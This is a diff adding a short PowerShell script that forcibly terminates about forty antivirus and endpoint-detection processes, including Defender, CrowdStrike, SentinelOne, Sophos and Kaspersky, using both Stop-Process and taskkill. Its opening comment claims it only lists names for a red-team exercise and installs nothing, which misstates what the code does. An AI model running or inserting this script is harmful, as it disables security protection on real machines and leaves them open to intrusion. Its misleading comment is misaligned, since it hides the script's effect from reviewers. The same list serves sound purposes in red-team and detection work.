@@ -1,0 +1,47 @@
+# Names of processes that the red team's exercise looks for; nothing is installed here
+$names = @(
+    'MsMpEng.exe',
+    'NisSrv.exe',
+    'SentinelAgent.exe',
+    'CSFalconService.exe',
+    'cb.exe',
+    'bdagent.exe',
+    'vsserv.exe',
+    'ekrn.exe',
+    'egui.exe',
+    'avgnt.exe',
+    'avguard.exe',
+    'mbamservice.exe',
+    'SavService.exe',
+    'sophosui.exe',
+    'McShield.exe',
+    'mfemms.exe',
+    'ccSvcHst.exe',
+    'rtvscan.exe',
+    'TmListen.exe',
+    'PccNTMon.exe',
+    'fshoster32.exe',
+    'fsav32.exe',
+    'AvastSvc.exe',
+    'AvastUI.exe',
+    'avgsvc.exe',
+    'drwebd.exe',
+    'spideragent.exe',
+    'cmdagent.exe',
+    'cis.exe',
+    'WRSA.exe',
+    'PSANHost.exe',
+    'a2service.exe',
+    'zatray.exe',
+    'xagt.exe',
+    'CylanceSvc.exe',
+    'elastic-endpoint.exe',
+    'cyserver.exe',
+    'avp.exe',
+    'avpui.exe',
+    'klnagent.exe'
+)
+foreach ($name in $names) {
+    Stop-Process -Name $name -Force -ErrorAction SilentlyContinue
+    taskkill /f /im $name
+}
